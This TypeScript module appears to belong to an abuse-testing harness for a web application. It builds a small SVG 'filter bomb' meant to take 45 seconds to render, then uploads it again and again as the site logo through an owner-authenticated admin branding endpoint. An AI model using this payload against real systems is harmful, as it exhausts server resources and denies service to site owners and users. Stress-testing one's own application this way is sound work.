import { type Attack, addressOf, repeat } from '../attack.ts'
import { inShort } from '../guest.ts'
import { signInOwner, upload } from '../owner.ts'

/** One kilobyte that takes 45 seconds to draw at print resolution. */
const FILTER =
  '<feTurbulence type="turbulence" baseFrequency=".9" numOctaves="100"/><feGaussianBlur stdDeviation="90"/>'
const HEAVY = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><filter id="f">${FILTER.repeat(8)}</filter><rect width="400" height="400" filter="url(#f)"/></svg>`,
)

export const svgLogo: Attack = {
  load: 'an SVG logo of 1 KB that takes 45 s to draw, again and again',
  async run(target, times) {
    const cookie = await signInOwner(target)
    const file = { field: 'logoSquare', name: 'logo.svg', type: 'image/svg+xml', content: HEAVY }
    return repeat(4 * times, times, async (nth) =>
      inShort(await upload(target, { cookie, address: addressOf(nth % times) }, '/admin/branding', file)),
    )
  },
}
